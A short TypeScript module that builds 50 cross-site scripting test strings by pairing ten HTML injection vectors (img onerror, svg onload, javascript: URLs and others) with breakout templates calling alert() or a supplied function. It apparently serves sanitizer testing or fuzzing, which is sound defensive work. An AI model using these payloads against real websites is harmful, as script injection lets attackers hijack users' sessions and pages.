const tags = [
  'script',
  'img src=x onerror',
  'svg/onload',
  'iframe srcdoc',
  'body onload',
  'a href=javascript:',
  'math',
  'style',
  'object data',
  'details open ontoggle',
];

/** 50 script payloads; the longest ones call the given function. */
export const payloadsWith = (called: string): string[] =>
  tags.flatMap((tag, at) => [
    `<${tag}=alert(${at})>`,
    `"><${tag}>${called}(${at})</${tag}>`,
    `'-alert(${at})-'<${tag}`,
    `\${alert(${at})}{{${tag}}}`,
    `javascript:${called}(${at})//<${tag}`,
  ]);
